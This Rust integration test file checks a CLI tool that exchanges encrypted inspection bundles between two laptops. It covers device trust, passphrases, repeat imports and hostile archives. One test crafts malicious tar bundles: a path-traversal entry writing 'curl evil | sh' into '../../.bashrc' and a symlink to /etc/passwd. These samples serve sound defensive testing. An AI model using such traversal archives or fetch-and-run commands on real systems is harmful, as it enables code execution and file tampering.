//! `tekseru bundle`: two laptops' stores exchange an inspection on a "USB stick" (a file),
//! both ways; the same bundle twice changes nothing; a hostile bundle leaves the store's
//! files byte for byte as they were.

#![allow(clippy::unwrap_used)] // Tests may panic on what they set up themselves.

use std::collections::BTreeMap;
use std::io::Read;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use serde_json::Value;
use sha2::{Digest, Sha256};

const PASS: &str = "test passphrase";

struct Laptop {
    dir: tempfile::TempDir,
    inspector: &'static str,
}

impl Laptop {
    fn new(inspector: &'static str) -> Laptop {
        Laptop {
            dir: tempfile::tempdir().unwrap(),
            inspector,
        }
    }

    fn cmd(&self) -> Command {
        let mut c = Command::new(env!("CARGO_BIN_EXE_tekseru"));
        c.env("TEKSERU_DATA_DIR", self.dir.path())
            .env("TEKSERU_PASSPHRASE", PASS)
            .env("TEKSERU_INSPECTOR", self.inspector)
            .env_remove("TEKSERU_INSPECTOR_IIN")
            .env_remove("TEKSERU_CHECKLISTS");
        c
    }

    fn run(&self, args: &[&str]) -> Output {
        self.cmd().args(args).output().unwrap()
    }

    fn json(&self, args: &[&str]) -> Value {
        let out = self.run(args);
        assert!(
            out.status.success(),
            "{args:?}: exit {:?}: {}",
            out.status.code(),
            String::from_utf8_lossy(&out.stderr)
        );
        serde_json::from_slice(&out.stdout).unwrap()
    }

    fn new_inspection(&self) -> String {
        let roster = Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("../../assets/demo/accreditation-adopted.json");
        self.json(&[
            "inspection",
            "new",
            "--checklist",
            "ca-accreditation-onsite",
            "--ca",
            "«Сенім» КО",
            "--bin",
            "050440001000",
            "--site",
            "Астана",
            "--roster",
            roster.to_str().unwrap(),
            "--json",
        ])["id"]
            .as_str()
            .unwrap()
            .to_owned()
    }

    fn device(&self) -> (String, String) {
        let card = self.json(&["device", "show", "--json"]);
        (
            card["public_key"].as_str().unwrap().to_owned(),
            card["fingerprint"].as_str().unwrap().to_owned(),
        )
    }

    /// Every file under the store's directory and its SHA-256.
    fn files(&self) -> BTreeMap<PathBuf, String> {
        let mut out = BTreeMap::new();
        let mut dirs = vec![self.dir.path().to_path_buf()];
        while let Some(dir) = dirs.pop() {
            for entry in std::fs::read_dir(&dir).unwrap() {
                let path = entry.unwrap().path();
                if path.is_dir() {
                    dirs.push(path);
                } else {
                    let mut bytes = Vec::new();
                    std::fs::File::open(&path)
                        .unwrap()
                        .read_to_end(&mut bytes)
                        .unwrap();
                    out.insert(path, hex::encode(Sha256::digest(&bytes)));
                }
            }
        }
        out
    }

    fn answer(&self, id: &str, item: &str) -> Value {
        let show = self.json(&["inspection", "show", id, "--json"]);
        show["answers"]
            .as_array()
            .and_then(|a| a.iter().find(|x| x["item"] == item).cloned())
            .or_else(|| show["answers"].get(item).cloned())
            .unwrap_or(Value::Null)
    }
}

fn stderr(out: &Output) -> String {
    String::from_utf8_lossy(&out.stderr).into_owned()
}

/// A file of evidence.
fn evidence(dir: &Path, name: &str, seed: u8) -> PathBuf {
    let path = dir.join(name);
    let bytes: Vec<u8> = (0..200_000u32)
        .map(|i| (i as u8).wrapping_mul(seed))
        .collect();
    std::fs::write(&path, bytes).unwrap();
    path
}

#[test]
fn two_laptops_exchange_an_inspection_both_ways() {
    let aida = Laptop::new("Aida");
    let bolat = Laptop::new("Bolat");
    let usb = tempfile::tempdir().unwrap();
    let id = aida.new_inspection();
    aida.json(&[
        "inspection",
        "answer",
        &id,
        "server-room.ups",
        "--verdict",
        "complies",
        "--json",
    ]);
    let photo = evidence(usb.path(), "ups.jpg", 3);
    aida.json(&[
        "evidence",
        "add",
        &id,
        "--item",
        "server-room.ups",
        photo.to_str().unwrap(),
        "--json",
    ]);
    // Bolat's laptop has a store (with work of its own) before it receives anything.
    bolat.new_inspection();
    let (bolat_key, bolat_fp) = bolat.device();
    let (aida_key, aida_fp) = aida.device();

    // No encryption chosen: the error says what to choose.
    let bundle = usb.path().join("one.tekseru");
    let out = aida.run(&["bundle", "export", &id, "-o", bundle.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(2));
    let err = stderr(&out);
    assert!(
        err.contains("--to PUBLIC_KEY")
            && err.contains("--passphrase-env VAR")
            && err.contains("--plain"),
        "{err}"
    );
    assert!(!bundle.exists());

    let exported = aida.json(&[
        "bundle",
        "export",
        &id,
        "-o",
        bundle.to_str().unwrap(),
        "--to",
        &bolat_key,
        "--json",
    ]);
    assert_eq!(exported["encryption"], "devices");
    assert_eq!(exported["blobs"], 1);
    let events = exported["events"].as_u64().unwrap();
    assert!(events >= 3, "{exported}");
    assert!(std::fs::read(&bundle)
        .unwrap()
        .starts_with(b"age-encryption.org/v1"));

    // Aida's device is unknown to Bolat's store: refused, as SSH refuses an unknown host.
    let before = bolat.files();
    let out = bolat.run(&["bundle", "import", bundle.to_str().unwrap(), "--json"]);
    assert_eq!(out.status.code(), Some(2));
    let err = stderr(&out);
    assert!(err.contains(&aida_fp), "{err}");
    assert!(err.contains("Aida"), "{err}");
    assert!(err.contains(&format!("--accept-device {aida_fp}")), "{err}");
    assert!(err.contains("tekseru device show"), "{err}");
    assert_eq!(
        bolat.files(),
        before,
        "a refused import changed the store's files"
    );

    let imported = bolat.json(&[
        "bundle",
        "import",
        bundle.to_str().unwrap(),
        "--accept-device",
        &aida_fp,
        "--json",
    ]);
    assert_eq!(imported["inspection"], id.as_str());
    assert_eq!(imported["encryption"], "device");
    assert_eq!(imported["new_events"].as_u64(), Some(events));
    assert_eq!(imported["known_events"], 0);
    assert_eq!(imported["new_blobs"], 1);
    assert_eq!(imported["devices_accepted"], serde_json::json!([aida_fp]));
    assert_eq!(imported["exporter"]["fingerprint"], aida_fp.as_str());
    assert_eq!(bolat.answer(&id, "server-room.ups")["verdict"], "complies");
    let sha = imported_sha(&aida, &id);
    let copy = usb.path().join("copy.jpg");
    bolat.json(&[
        "evidence",
        "export",
        &id,
        &sha,
        "-o",
        copy.to_str().unwrap(),
        "--json",
    ]);
    assert_eq!(
        std::fs::read(&copy).unwrap(),
        std::fs::read(&photo).unwrap()
    );

    // The same bundle again: nothing new, and the store's files do not change.
    let before = bolat.files();
    let again = bolat.json(&["bundle", "import", bundle.to_str().unwrap(), "--json"]);
    assert_eq!(again["new_events"], 0);
    assert_eq!(again["known_events"].as_u64(), Some(events));
    assert_eq!(again["new_blobs"], 0);
    assert_eq!(
        bolat.files(),
        before,
        "importing the same bundle twice changed the store"
    );

    // Bolat works on it, and sends back only what Aida lacks (she says what she holds).
    bolat.json(&[
        "inspection",
        "answer",
        &id,
        "server-room.air-conditioning",
        "--verdict",
        "fails",
        "--json",
    ]);
    let scan = evidence(usb.path(), "fire.pdf", 7);
    bolat.json(&[
        "evidence",
        "add",
        &id,
        "--item",
        "server-room.air-conditioning",
        scan.to_str().unwrap(),
        "--json",
    ]);
    let since = aida.json(&["bundle", "since", &id, "--json"]);
    let mut args: Vec<String> = vec!["bundle".into(), "export".into(), id.clone(), "-o".into()];
    let back = usb.path().join("back.tekseru");
    args.push(back.to_str().unwrap().into());
    for s in since["since"].as_array().unwrap() {
        let (flag, value) = s.as_str().unwrap().split_once(' ').unwrap();
        args.push(flag.into());
        args.push(value.into());
    }
    args.extend(["--to".into(), aida_key.clone(), "--json".into()]);
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let exported = bolat.json(&args);
    assert_eq!(
        exported["blobs"], 1,
        "Aida's photo is not sent back to her: {exported}"
    );
    let back_events = exported["events"].as_u64().unwrap();
    assert!(back_events >= 2 && back_events < events + 2, "{exported}");

    let out = aida.run(&["bundle", "import", back.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(2));
    assert!(stderr(&out).contains(&bolat_fp), "{}", stderr(&out));
    let imported = aida.json(&[
        "bundle",
        "import",
        back.to_str().unwrap(),
        "--accept-device",
        &bolat_fp,
        "--json",
    ]);
    assert_eq!(imported["new_events"].as_u64(), Some(back_events));
    assert_eq!(imported["known_events"], 0);
    assert_eq!(imported["new_blobs"], 1);
    assert_eq!(
        aida.answer(&id, "server-room.air-conditioning")["verdict"],
        "fails"
    );
    assert_eq!(aida.answer(&id, "server-room.ups")["verdict"], "complies");
    // Both laptops now hold the same.
    assert_eq!(
        aida.json(&["bundle", "since", &id, "--json"])["vector"],
        bolat.json(&["bundle", "since", &id, "--json"])["vector"]
    );

    // A whole bundle back to Bolat now holds nothing he lacks: its evidence is not copied twice.
    let full = usb.path().join("full.tekseru");
    aida.json(&[
        "bundle",
        "export",
        &id,
        "-o",
        full.to_str().unwrap(),
        "--to",
        &bolat_key,
        "--json",
    ]);
    let again = bolat.json(&["bundle", "import", full.to_str().unwrap(), "--json"]);
    assert_eq!(again["new_events"], 0);
    assert_eq!(again["new_blobs"], 0);
}

/// The SHA-256 of the inspection's only evidence file on `laptop`.
fn imported_sha(laptop: &Laptop, id: &str) -> String {
    let show = laptop.json(&["inspection", "show", id, "--json"]);
    let text = show.to_string();
    let at = text.find("\"sha256\":\"").unwrap() + 10;
    text[at..at + 64].to_owned()
}

#[test]
fn passphrases_plain_bundles_and_the_wrong_device() {
    let aida = Laptop::new("Aida");
    let bolat = Laptop::new("Bolat");
    let usb = tempfile::tempdir().unwrap();
    let id = aida.new_inspection();
    bolat.new_inspection();
    let (_, aida_fp) = aida.device();

    let sealed = usb.path().join("pass.tekseru");
    let out = aida
        .cmd()
        .env("BUNDLE_PASS", "a passphrase told by phone")
        .args([
            "bundle",
            "export",
            &id,
            "-o",
            sealed.to_str().unwrap(),
            "--passphrase-env",
            "BUNDLE_PASS",
            "--json",
        ])
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    let out = bolat.run(&[
        "bundle",
        "import",
        sealed.to_str().unwrap(),
        "--accept-device",
        &aida_fp,
    ]);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        stderr(&out).contains("encrypted to a passphrase")
            && stderr(&out).contains("--passphrase-env"),
        "{}",
        stderr(&out)
    );
    let out = bolat
        .cmd()
        .env("BUNDLE_PASS", "a passphrase told by fax")
        .args([
            "bundle",
            "import",
            sealed.to_str().unwrap(),
            "--accept-device",
            &aida_fp,
            "--passphrase-env",
            "BUNDLE_PASS",
        ])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(
        stderr(&out).contains("the passphrase does not open this bundle"),
        "{}",
        stderr(&out)
    );
    let out = bolat
        .cmd()
        .env("BUNDLE_PASS", "a passphrase told by phone")
        .args([
            "bundle",
            "import",
            sealed.to_str().unwrap(),
            "--accept-device",
            &aida_fp,
            "--passphrase-env",
            "BUNDLE_PASS",
            "--json",
        ])
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    let report: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(report["encryption"], "passphrase");

    // Plain: written with a warning, read by anyone.
    let plain = usb.path().join("plain.tekseru");
    let out = aida.run(&[
        "bundle",
        "export",
        &id,
        "-o",
        plain.to_str().unwrap(),
        "--plain",
    ]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("warning") && stderr(&out).contains("not encrypted"),
        "{}",
        stderr(&out)
    );
    let report = bolat.json(&["bundle", "import", plain.to_str().unwrap(), "--json"]);
    assert_eq!(report["encryption"], "plain");
    assert_eq!(report["new_events"], 0);

    // Encrypted to Aida's own device: Bolat's store cannot open it, and is told what to ask for.
    let (aida_key, _) = aida.device();
    let (bolat_key, _) = bolat.device();
    let mine = usb.path().join("mine.tekseru");
    aida.json(&[
        "bundle",
        "export",
        &id,
        "-o",
        mine.to_str().unwrap(),
        "--to",
        &aida_key,
        "--json",
    ]);
    let out = bolat.run(&["bundle", "import", mine.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        stderr(&out).contains(&format!("--to {bolat_key}")),
        "{}",
        stderr(&out)
    );

    // Bad arguments.
    let out = aida.run(&[
        "bundle",
        "export",
        &id,
        "-o",
        mine.to_str().unwrap(),
        "--to",
        "ssh-ed25519 AAAA",
    ]);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        stderr(&out).contains("tekseru device show"),
        "{}",
        stderr(&out)
    );
    let out = aida.run(&[
        "bundle",
        "export",
        &id,
        "-o",
        mine.to_str().unwrap(),
        "--plain",
        "--since",
        "nope",
    ]);
    assert_eq!(out.status.code(), Some(2));
    assert!(stderr(&out).contains("DEVICE:SEQ"), "{}", stderr(&out));
}

/// A plain bundle's entries, as (name, data).
fn entries(bytes: &[u8]) -> Vec<(Vec<u8>, Vec<u8>)> {
    let mut archive = tar::Archive::new(bytes);
    archive
        .entries()
        .unwrap()
        .map(|e| {
            let mut e = e.unwrap();
            let name = e.path_bytes().into_owned();
            let mut data = Vec::new();
            e.read_to_end(&mut data).unwrap();
            (name, data)
        })
        .collect()
}

/// An archive entry: name, data, type, link target.
type Raw<'a> = (Vec<u8>, Vec<u8>, tar::EntryType, &'a [u8]);

/// An archive of these entries, each as `kind`; names written raw, unchecked.
fn archive(entries: &[Raw<'_>]) -> Vec<u8> {
    let mut out = Vec::new();
    for (name, data, kind, link) in entries {
        let mut header = tar::Header::new_ustar();
        header.as_old_mut().name[..name.len()].copy_from_slice(name);
        header.as_old_mut().linkname[..link.len()].copy_from_slice(link);
        header.set_entry_type(*kind);
        header.set_size(data.len() as u64);
        header.set_mode(0o644);
        header.set_cksum();
        out.extend_from_slice(header.as_bytes());
        out.extend_from_slice(data);
        out.resize(out.len().div_ceil(512) * 512, 0);
    }
    out.extend_from_slice(&[0; 1024]);
    out
}

#[test]
fn a_hostile_bundle_leaves_the_store_as_it_was() {
    let aida = Laptop::new("Aida");
    let bolat = Laptop::new("Bolat");
    let usb = tempfile::tempdir().unwrap();
    let id = aida.new_inspection();
    aida.json(&[
        "inspection",
        "answer",
        &id,
        "server-room.ups",
        "--verdict",
        "complies",
        "--json",
    ]);
    let photo = evidence(usb.path(), "ups.jpg", 5);
    aida.json(&["evidence", "add", &id, photo.to_str().unwrap(), "--json"]);
    bolat.new_inspection();
    let (_, aida_fp) = aida.device();
    let good = usb.path().join("good.tekseru");
    aida.json(&[
        "bundle",
        "export",
        &id,
        "-o",
        good.to_str().unwrap(),
        "--plain",
        "--json",
    ]);
    let bytes = std::fs::read(&good).unwrap();
    let e = entries(&bytes);
    let blob = e.last().unwrap().0.clone();
    let blob_name = String::from_utf8(blob.clone()).unwrap();
    let regular = |i: usize| {
        (
            e[i].0.clone(),
            e[i].1.clone(),
            tar::EntryType::Regular,
            &b""[..],
        )
    };

    let mut cases: Vec<(&str, Vec<u8>, String)> = Vec::new();
    cases.push((
        "truncated",
        bytes[..bytes.len() - 5000].to_vec(),
        blob_name.clone(),
    ));
    let mut flipped = bytes.clone();
    let at = flipped.len() - 1024 - 512 - 1000;
    flipped[at] ^= 0x20;
    cases.push(("a blob's byte changed", flipped, blob_name.clone()));
    let mut list: Vec<_> = (0..e.len()).map(regular).collect();
    list.insert(
        1,
        (
            b"../../.bashrc".to_vec(),
            b"curl evil | sh".to_vec(),
            tar::EntryType::Regular,
            &b""[..],
        ),
    );
    cases.push(("path traversal", archive(&list), "../../.bashrc".into()));
    let mut list: Vec<_> = (0..e.len()).map(regular).collect();
    let last = list.len() - 1;
    list[last] = (
        blob.clone(),
        Vec::new(),
        tar::EntryType::Symlink,
        &b"/etc/passwd"[..],
    );
    cases.push(("a symlink", archive(&list), blob_name.clone()));
    let mut list: Vec<_> = (0..e.len()).map(regular).collect();
    let dup = list[1].clone();
    list.insert(2, dup);
    cases.push(("a duplicate", archive(&list), "events/1.json".into()));

    let staging = bolat.dir.path().join("staging");
    for (what, hostile, entry) in cases {
        let file = usb.path().join("hostile.tekseru");
        std::fs::write(&file, &hostile).unwrap();
        let before = bolat.files();
        let out = bolat.run(&[
            "bundle",
            "import",
            file.to_str().unwrap(),
            "--accept-device",
            &aida_fp,
            "--json",
        ]);
        assert_eq!(out.status.code(), Some(2), "{what}");
        let err = stderr(&out);
        assert!(
            err.contains(&entry) && err.contains("nothing was imported"),
            "{what}: {err}"
        );
        assert_eq!(bolat.files(), before, "{what}: the store's files changed");
        if staging.exists() {
            assert_eq!(std::fs::read_dir(&staging).unwrap().count(), 0, "{what}");
        }
        assert!(
            bolat
                .run(&["inspection", "show", &id, "--json"])
                .status
                .code()
                != Some(0),
            "{what}"
        );
    }
    // The good bundle still imports.
    let imported = bolat.json(&[
        "bundle",
        "import",
        good.to_str().unwrap(),
        "--accept-device",
        &aida_fp,
        "--json",
    ]);
    assert_eq!(imported["new_blobs"], 1);
}
